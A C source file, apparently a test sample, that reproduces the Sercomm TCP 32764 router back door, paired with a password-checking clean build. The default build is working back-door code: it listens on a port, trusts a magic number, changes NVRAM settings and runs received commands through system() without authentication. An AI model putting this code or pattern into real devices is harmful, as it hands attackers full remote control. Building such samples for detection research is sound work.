/*
 * cfgdaemon.c - test implant (never executed): the shape of a router's
 * configuration back door (the Sercomm TCP 32764 service). It listens on a
 * TCP port given to htons() as a constant, reads a 12-byte header, compares
 * its first four bytes as an integer against a magic, and then dumps the
 * NVRAM, sets a variable and commits, or runs the payload through system().
 * Nothing authenticates. Linked against the stub libnvram (nvram.c).
 *
 * Built with -DLOGIN it is the clean counterpart: a configuration service
 * on a well-known port (8080) that checks the administrator's password (kept
 * in NVRAM, as routers keep it) before any command, with no magic.
 */
#include <netinet/in.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#ifdef LOGIN
#define PORT 8080
#else
#define PORT 32764
#endif

char *nvram_get(const char *name);
int nvram_set(const char *name, const char *value);
int nvram_commit(void);

struct hdr {
	uint32_t magic;
	uint32_t cmd;
	uint32_t len;
};

static char payload[0x10000];

static void reply(int c, const char *s)
{
	if (s)
		write(c, s, strlen(s));
}

static void serve(int c)
{
	struct hdr h;
	char *eq;
	if (recv(c, &h, sizeof(h), MSG_WAITALL) != (ssize_t)sizeof(h))
		return;
#ifdef LOGIN
	{
		char pw[64];
		const char *want = nvram_get("http_passwd");
		if (!want || recv(c, pw, sizeof(pw), MSG_WAITALL) != (ssize_t)sizeof(pw))
			return;
		pw[sizeof(pw) - 1] = 0;
		if (strcmp(pw, want) != 0)
			return;
	}
#else
	if (h.magic != 0x53634D4Du)
		return;
#endif
	if (h.len >= sizeof(payload) || recv(c, payload, h.len, MSG_WAITALL) != (ssize_t)h.len)
		return;
	payload[h.len] = 0;
	switch (h.cmd) {
	case 1: /* dump one variable (the real one dumps them all) */
		reply(c, nvram_get(payload));
		break;
	case 2: /* name=value */
		eq = strchr(payload, '=');
		if (eq) {
			*eq = 0;
			nvram_set(payload, eq + 1);
			nvram_commit();
		}
		break;
	case 7:
		system(payload);
		break;
	}
}

int main(void)
{
	struct sockaddr_in a;
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(PORT);
	a.sin_addr.s_addr = htonl(INADDR_ANY);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 5) < 0)
		return 1;
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			serve(c);
			_exit(0);
		}
		close(c);
	}
}
